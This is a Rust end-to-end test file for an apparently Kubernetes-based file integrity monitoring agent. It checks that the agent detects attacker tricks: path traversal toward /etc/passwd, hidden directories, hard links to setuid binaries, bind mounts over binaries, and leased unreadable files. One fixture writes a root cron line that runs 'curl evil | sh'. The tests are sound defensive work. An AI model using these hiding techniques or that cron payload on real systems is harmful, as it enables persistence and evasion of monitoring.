//! Hiding a change: malformed API objects, hidden directories, hard links, mounts, long node names, unreadable files.

use super::*;

/// A FileChange with a malformed escape in its path, acknowledged: the agent
/// of the node it names neither panics nor stalls, and keeps reporting.
#[tokio::test]
async fn a_malformed_change_from_the_api_cannot_stall_the_agent() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    let api: Api<FileChange> = Api::all(client.clone());
    for (i, path) in [
        "/etc/\\x",
        "/etc/\\xé",
        "/etc/\\x\u{e9}1/\\",
        "/../../etc/passwd",
    ]
    .into_iter()
    .enumerate()
    {
        let mut c = FileChange::new(
            &format!("{a}-malformed-{i}"),
            FileChangeSpec {
                node: a.clone(),
                policy: policy.clone(),
                entry: "etc".into(),
                path: path.into(),
                category: ChangeCategory::Modified,
                changed_attributes: vec![],
                before: None,
                after: None,
                detected_time: k8s_openapi::apimachinery::pkg::apis::meta::v1::MicroTime(
                    k8s_openapi::jiff::Timestamp::now(),
                ),
                source: DetectionSource::Realtime,
                process: None,
                summary: None,
                sequence: None,
                container: None,
                package: None,
                restored: None,
            },
        );
        c.metadata.labels = Some(BTreeMap::from([(
            "e2e.kube-fim.io/malformed".to_string(),
            "true".to_string(),
        )]));
        api.create(&PostParams::default(), &c).await.unwrap();
        // Approved, so the agent's approval handler reads it.
        let _ = kube_fim_e2e::approve(&client, &c.name_any(), "malformed").await;
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert!(
        fleet.nodes[0].agent.as_mut().unwrap().running(),
        "the agent is alive"
    );
    std::fs::write(fleet.nodes[0].host("/etc/hosts"), "10.0.0.66 evil\n").unwrap();
    let real = wait_change(&fleet, &a, "Modified /etc/hosts").await;
    assert_eq!(
        http_get(fleet.nodes[0].metrics_port, "/healthz").as_deref(),
        Some("ok")
    );
    // The handler that read the malformed objects still works.
    kube_fim_e2e::approve(&client, &real.name_any(), "expected")
        .await
        .unwrap();
    eventually("a later acknowledgement is applied", SEEN, || async {
        let c = api.get(&real.name_any()).await.map_err(|e| e.to_string())?;
        c.status
            .and_then(|s| s.baseline_updated_time)
            .map(|_| ())
            .ok_or_else(|| "not yet".to_string())
    })
    .await;
    fleet.cleanup().await;
}

/// A hidden directory under a non-recursive entry (`/usr/bin/.x`) is reported.
#[tokio::test]
async fn a_hidden_directory_under_a_non_recursive_entry_is_reported() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-bin");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("bin", "/usr/bin", false)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    std::fs::create_dir(fleet.nodes[0].host("/usr/bin/.x")).unwrap();
    std::fs::write(fleet.nodes[0].host("/usr/bin/.x/payload"), "\x7fELF").unwrap();
    let c = wait_change(&fleet, &a, "Added /usr/bin/.x").await;
    assert_eq!(
        c.spec.after.and_then(|a| a.file_type),
        Some(kube_fim_crds::FileType::Directory)
    );
    fleet.cleanup().await;
}

/// A second name for a monitored setuid binary, made where no entry looks,
/// shows on the binary itself: its link count, as AIDE shows it.
#[tokio::test]
async fn a_hard_link_to_a_setuid_binary_shows_on_the_binary() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-bin");
    // A new link changes the file's inode, not its directory: no directory
    // watch hears it, the next full scan (the shortest period here) does.
    let mut p = fleet.policy(&policy, vec![entry("bin", "/usr/bin", false)]);
    p.spec.scan_interval = "1m".into();
    fleet.create_policy(&p).await;
    let tool = fleet.nodes[0].host("/usr/bin/tool");
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o4755)).unwrap();
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    let hidden = fleet.nodes[0].host("/var/tmp/.t");
    std::fs::create_dir_all(hidden.parent().unwrap()).unwrap();
    std::fs::hard_link(&tool, &hidden).unwrap();
    let c = eventually(
        "Modified /usr/bin/tool at the next scan",
        Duration::from_secs(100),
        || async {
            fleet
                .changes(&a)
                .await
                .into_iter()
                .find(|c| describe(c) == "Modified /usr/bin/tool")
                .ok_or_else(|| "not yet".to_string())
        },
    )
    .await;
    assert_eq!(
        c.spec.changed_attributes,
        vec![kube_fim_crds::Attribute::Links]
    );
    assert_eq!(c.spec.before.and_then(|b| b.links), Some(1));
    assert_eq!(c.spec.after.and_then(|a| a.links), Some(2));
    fleet.cleanup().await;
}

/// A bind mount, undone when dropped (even when the test fails).
struct BindMount(std::path::PathBuf);

impl BindMount {
    fn new(source: &std::path::Path, target: &std::path::Path) -> Self {
        let out = std::process::Command::new("mount")
            .arg("--bind")
            .arg(source)
            .arg(target)
            .output()
            .unwrap();
        assert!(out.status.success(), "mount --bind: {out:?}");
        BindMount(target.to_path_buf())
    }
}

impl Drop for BindMount {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
    }
}

/// `mount --bind evil /usr/bin/tool` on the host after the agent started: the
/// agent's own view of the host root is the one of its start, but the host's
/// mount table says what the host reads there now. A FileChange of the tool
/// naming the mount, and a MountedOver Warning Event.
#[tokio::test]
async fn a_mount_over_a_monitored_file_is_seen() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-bin");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("bin", "/usr/bin", false)]))
        .await;
    let node = &mut fleet.nodes[0];
    // The agents of this harness share the test's mount namespace, where the
    // host root is a directory: its table is read from there.
    let root = node.host("/").canonicalize().unwrap();
    node.start_agent_with(&[
        "--mount-table=/proc/self/mountinfo".to_string(),
        format!("--mount-table-root={}", root.display()),
    ]);
    let a = node.name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    let evil = fleet.nodes[0].host("/var/tmp/evil");
    std::fs::create_dir_all(evil.parent().unwrap()).unwrap();
    std::fs::write(&evil, "#!/bin/sh\necho evil\n").unwrap();
    let mount = BindMount::new(&evil, &fleet.nodes[0].host("/usr/bin/tool"));
    let c = wait_change(&fleet, &a, "Modified /usr/bin/tool").await;
    assert!(
        c.spec
            .changed_attributes
            .contains(&kube_fim_crds::Attribute::Mount),
        "{:?}",
        c.spec.changed_attributes
    );
    // This agent shares the mount namespace it watches, so it also reads the
    // content behind the mount (a pod's view is the one of its start: there
    // the mount is what is reported, until the agent restarts).
    assert_eq!(
        c.spec.after.as_ref().and_then(|a| a.hash.clone()),
        Some(blake3::hash(b"#!/bin/sh\necho evil\n").to_hex().to_string())
    );
    let after = c.spec.after.and_then(|a| a.mount).unwrap();
    assert_eq!(after.mount_point, "/usr/bin/tool");
    assert!(after.root.ends_with("/var/tmp/evil"), "{after:?}");
    let before = c.spec.before.and_then(|b| b.mount).unwrap();
    assert_eq!(before.mount_point, "/");
    let event = wait_warning(&client, "MountedOver", &a).await;
    let note = event.note.unwrap_or_default();
    assert!(
        note.contains("/usr/bin/tool") && note.contains("/var/tmp/evil"),
        "{note}"
    );
    drop(mount);
    fleet.cleanup().await;
}

/// A node name longer than the 180 characters object names keep of it: the
/// agent's prefix (cut at 180, without a trailing '-' or '.') is its own, the
/// uncut or differently cut name is not.
#[tokio::test]
async fn a_long_node_name_reports_under_the_prefix_the_agent_uses() {
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("adv");
    let label = |start: &str| format!("{start:x<63}");
    // The 180th character is the '-' inside the third label: the agent trims it.
    let long = format!(
        "{}.{}.{}-{}.{}",
        label(&suite),
        label("b"),
        "c".repeat(51),
        "h".repeat(11),
        "d".repeat(30)
    );
    assert_eq!(&long[179..180], "-");
    create_node(&admin, &long, &[]).await;
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&long)).await;
    let changes = Api::<FileChange>::all(agent.clone());
    let pp = PostParams::default();
    let digest = "0123456789abcdef4567";
    let prefix = long[..180].trim_end_matches(['-', '.']);
    for other in [
        format!("{}-{digest}", &long[..180]),
        format!("{long}-{digest}"),
    ] {
        assert_refused(
            changes
                .create(&pp, &kube_fim_e2e::file_change(&other, &long, "p"))
                .await,
            "metadata.name of an agent's FileChange must be its node's name",
        );
    }
    let own = format!("{prefix}-{digest}");
    changes
        .create(&pp, &kube_fim_e2e::file_change(&own, &long, "p"))
        .await
        .expect("the agent's own prefix of a long node name");
    let _ = Api::<FileChange>::all(admin.clone())
        .delete(&own, &Default::default())
        .await;
    delete_node(&admin, &long).await;
}

// Issue 21, attack 5: a read error never means unchanged.
/// A new file moved into `/etc` while the attacker's process holds a write
/// lease on it (root cannot read it either): a FileChange naming it, Added,
/// its metadata read, its content marked unreadable with the reason; the
/// agent's scan is not held up by it (another change is reported meanwhile).
/// The lease released, the agent reads the content on its own and reports it.
#[tokio::test]
async fn a_file_held_under_a_write_lease_is_reported_unreadable_then_read() {
    use kube_fim_testkit::lease::Lease;
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    // Staged on the same file system where nothing looks, leased, moved in.
    let staged = fleet.nodes[0].host("/staging/cron");
    std::fs::create_dir_all(staged.parent().unwrap()).unwrap();
    let content = "* * * * * root curl evil | sh\n";
    std::fs::write(&staged, content).unwrap();
    let lease = Lease::take(&staged);
    std::fs::rename(&staged, fleet.nodes[0].host("/etc/cron")).unwrap();
    let moved = std::time::Instant::now();

    let added = wait_change(&fleet, &a, "Added /etc/cron").await;
    println!("unreadable Added seen {:?} after the move", moved.elapsed());
    let after = added.spec.after.clone().unwrap();
    assert_eq!(after.size, Some(content.len() as u64), "{after:?}");
    assert!(after.mode.is_some() && after.inode.is_some(), "{after:?}");
    assert_eq!(after.hash, None, "no digest of content not read: {after:?}");
    let why = after.unreadable.clone().unwrap_or_default();
    assert!(why.contains("EWOULDBLOCK"), "{after:?}");
    // `kubectl get fc` shows why.
    let run = kubectl(["get", "fc", &added.name_any()]);
    assert!(run.success, "{}", run.stderr);
    assert!(
        run.stdout.contains("UNREADABLE") && run.stdout.contains("EWOULDBLOCK"),
        "{}",
        run.stdout
    );

    // Its Event says so too.
    eventually(
        "an Event saying /etc/cron could not be read",
        SEEN,
        || async {
            let events = Api::<Event>::all(client.clone())
                .list(&ListParams::default())
                .await
                .map_err(|e| e.to_string())?;
            events
                .items
                .iter()
                .find(|e| {
                    let note = e.note.as_deref().unwrap_or("");
                    note.contains(&a)
                        && note.contains("/etc/cron added")
                        && note.contains("EWOULDBLOCK")
                })
                .map(|_| ())
                .ok_or_else(|| "not yet".to_string())
        },
    )
    .await;

    // The lease held, the agent goes on: another change is reported.
    std::fs::write(fleet.nodes[0].host("/etc/hosts"), "10.0.0.1 evil\n").unwrap();
    wait_change(&fleet, &a, "Modified /etc/hosts").await;

    drop(lease);
    let released = std::time::Instant::now();
    let hash = blake3::hash(content.as_bytes()).to_hex().to_string();
    let read = eventually("the content, once readable, is reported", SEEN, || async {
        let changes = fleet.changes(&a).await;
        changes
            .into_iter()
            .find(|c| {
                describe(c) == "Added /etc/cron"
                    && c.spec.after.as_ref().and_then(|x| x.hash.as_deref()) == Some(&hash)
            })
            .ok_or_else(|| "not yet".to_string())
    })
    .await;
    println!(
        "content reported {:?} after the lease was released",
        released.elapsed()
    );
    assert_ne!(read.name_any(), added.name_any(), "a FileChange of its own");
    assert_eq!(read.spec.after.unwrap().unreadable, None);
    fleet.cleanup().await;
}
